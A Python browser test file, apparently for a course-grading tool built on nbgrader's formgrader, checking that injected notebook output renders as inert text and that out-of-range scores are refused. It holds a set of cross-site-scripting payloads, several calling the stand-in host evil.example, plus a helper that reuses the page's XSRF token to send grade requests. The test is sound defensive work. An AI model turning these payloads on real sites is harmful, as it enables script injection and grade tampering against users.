"""formgrader in a real browser: anchors, a score, and hostile output that stays text."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from tests.browser import NEEDS_BROWSER, jupyter_server, launch
from tests.conftest import TINY
from worksample import assignments
from worksample.assignments import build, case
from worksample.batch import cohort as batch
from worksample.batch import formgrader
from worksample.course import Course
from worksample.feedback import approval
from worksample.records.tables import Records
from worksample.submissions import invitations

pytestmark = [pytest.mark.slow, *NEEDS_BROWSER]

REMOTE = "http://evil.example"
EVIL = (
    f"<script>window.pwned = 1; fetch('{REMOTE}/s')</script>"
    f"<img src='{REMOTE}/i.png' onerror='window.pwned = 2'>"
    f"<svg onload='window.pwned = 3'><image href='{REMOTE}/v.png'/></svg>"
    f"<iframe src='{REMOTE}/f'></iframe><style>@import url({REMOTE}/c.css)</style>"
    f"<a id='x' href='javascript:window.pwned = 4'>x</a>"
)
OUTPUTS = [
    {"output_type": "display_data", "metadata": {}, "data": data}
    for data in (
        {"text/html": EVIL, "text/plain": "x"},
        {"application/javascript": f"window.pwned = 5; fetch('{REMOTE}/j')", "text/plain": "x"},
        {"image/svg+xml": f"<svg onload='window.pwned = 6'>{EVIL}</svg>"},
        {"text/markdown": f"{EVIL} ![x]({REMOTE}/m.png) [x](javascript:window.pwned=7)"},
        {"text/latex": f"$$</script>{EVIL}$$"},
        {"text/vnd.mermaid": f"graph TD; A-->B\n</script>{EVIL}", "text/plain": "x"},
        {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script>{EVIL}"}},
    )
] + [
    {"output_type": "stream", "name": "stdout", "text": f"</pre>\x1b]0;pwned\x07{EVIL}"},
    {"output_type": "error", "ename": EVIL, "evalue": EVIL, "traceback": [f"\x1b[31m{EVIL}"]},
]  # fmt: skip


#: what a page's script would send: it is the server that has to refuse
SEND = """async ([method, address, body]) => {
  const xsrf = document.cookie.match(/_xsrf=([^;]+)/);
  const found = await fetch(address, {method, body, credentials: "same-origin",
    headers: {"X-XSRFToken": xsrf ? xsrf[1] : "", "Content-Type": "application/json"}});
  return {status: found.status, text: await found.text()};
}"""


@pytest.fixture
def submitted(course: Course) -> Course:
    """Mallory's blank attempt graded, then everything hostile put into what formgrader shows."""
    tiny = assignments.find(course, TINY)
    build.build(course, tiny)
    invitations.invite(course, "mallory", tiny)
    folder = course.submitted / "mallory" / TINY
    folder.mkdir(parents=True)
    shutil.copy(case.released(course, TINY, "standard"), folder / f"{TINY}.ipynb")
    assert not batch.grade(course, TINY, workers=1).not_gradable
    path = course.autograded / "mallory" / TINY / f"{TINY}.ipynb"
    notebook = json.loads(path.read_text())
    for cell in notebook["cells"]:
        if cell["id"] == "slope_answer":
            cell["outputs"], cell["source"] = OUTPUTS, f"# {EVIL}"
        elif cell["id"] == "explanation_answer":
            cell["source"] = f"{EVIL}\n\n![x]({REMOTE}/a.png)\n\n<{REMOTE}/b>"
    path.chmod(0o644)
    path.write_text(json.dumps(notebook))
    return course


@pytest.fixture
def server(submitted: Course, tmp_path: Path) -> Iterator[str]:
    """A Jupyter server with nbgrader's extension in the course folder; its address."""
    with jupyter_server(submitted.root, tmp_path) as address:
        yield address


def test_a_grader_sees_anchors_and_scores_while_hostile_output_stays_text(
    submitted: Course, server: str
):
    """formgrader runs with a grader's rights: a script in a submission could set its own score."""
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = launch(playwright)
        page = browser.new_page()
        page.set_default_timeout(120_000)
        asked: list[str] = []
        faults: list[str] = []
        page.on("request", lambda request: asked.append(request.url))
        page.on("pageerror", lambda error: faults.append(str(error)))
        page.on("dialog", lambda dialog: faults.append(dialog.message))
        page.goto(f"{server}/formgrader/gradebook/{TINY}/{TINY}")
        page.locator("a[href*='/formgrader/submissions/']").first.click()
        box = page.locator("input.score#explanation")
        box.wait_for()

        shown = page.locator("#notebook-container").first
        text = shown.inner_text()
        address_of_attempt = page.url
        assert "Names one limit and the evidence for it." in text
        assert "Not enough information to rate is said with a reason" in text
        assert "<script>window.pwned = 1" in text
        assert (
            page.locator("#notebook-container").locator("script, iframe, svg, style").count() == 0
        )
        assert page.locator("#notebook-container [href^='javascript']").count() == 0

        with page.expect_response(lambda r: "/formgrader/api/grade/" in r.url and r.ok):
            box.fill("3")
            box.press("Tab")
        page.wait_for_load_state("networkidle")
        # nbgrader's page would make a 9 a 4, and take a half
        for typed in ("9", "2.5", "0"):
            box.fill(typed)
            box.press("Tab")
            assert "A rating is 1, 2, 3 or 4" in page.locator("#refused").inner_text()
            assert box.input_value() == "3"
        bar = box.locator("xpath=ancestor::div[contains(@class, 'pull-right')]")
        assert bar.locator("button, .extra-credit").count() == 0
        page.locator("summary").click()
        assert "y =" in page.locator("details").inner_text()  # the truth card
        # past the page: "No credit" as nbgrader's own button sends it
        number = page.url.split("/submissions/")[1].split("/")[0]
        listed = page.evaluate(
            SEND, ["GET", f"/formgrader/api/grades?submission_id={number}", None]
        )
        cell = next(g for g in json.loads(listed["text"]) if g["name"] == "explanation")
        no_credit = json.dumps({"manual_score": 0, "extra_credit": 0})
        answer = page.evaluate(SEND, ["PUT", f"/formgrader/api/grade/{cell['id']}", no_credit])
        assert (answer["status"], "1, 2, 3 or 4" in answer["text"]) == (409, True)
        assert page.evaluate("window.pwned") is None
        page.locator("span.name-hidden").click()
        assert page.locator("a.name-shown").inner_text().strip() == "mallory"
        page.goto(f"{server}/formgrader/manage_students")
        assert page.locator("td.name").first.inner_text() == "mallory, candidate"
        assert page.locator("td.score").first.inner_text() == "0 / 100"
        release = f"/formgrader/api/assignment/{TINY}/mallory/release_feedback"
        answer = page.evaluate(SEND, ["POST", release, "{}"])
        assert "Traceback" not in answer["text"]
        assert "mallory: it has not been drawn" in answer["text"]

        (submitted.root / "course.toml").write_text("[scorecards]\ngraders = 3\n")
        page.goto(address_of_attempt)
        assert page.locator("input.score#explanation").is_disabled()
        assert "3 people rate this attempt" in page.locator("[role=note]").inner_text()
        (submitted.root / "course.toml").unlink()
        browser.close()

    (row,) = Records(submitted.records_url).ratings(TINY, "mallory")
    assert (row.value, row.door) == (3, "formgrader")
    with Gradebook(submitted.gradebook_url) as gradebook:
        grade = gradebook.find_grade("explanation", TINY, TINY, "mallory")
        assert (grade.manual_score, grade.needs_manual_grade) == (3, False)
    assert [address for address in asked if not address.startswith((server, "data:"))] == []
    assert faults == []
    rated = approval.build(submitted, TINY, "mallory")["criteria"][0]
    assert (rated["value"], rated["anchor"]) == (3, "Names one limit and the evidence for it.")

    # the gradebook takes any number; what is no rating is none, and the grader is told
    assert rated["seen"] == []
    with Gradebook(submitted.gradebook_url) as gradebook:
        gradebook.find_grade("explanation", TINY, TINY, "mallory").manual_score = 9
        gradebook.db.commit()
    assert approval.build(submitted, TINY, "mallory")["criteria"][0]["value"] == 3
    assert "formgrader holds 9" in formgrader.settle(submitted, TINY, "mallory")[0]


def test_the_anchors_are_not_in_what_a_candidate_gets(submitted: Course):
    for level in ("junior", "standard", "senior"):
        released = case.released(submitted, TINY, level).read_text()
        assert "MARK SCHEME" not in released
        assert "Names one limit" not in released
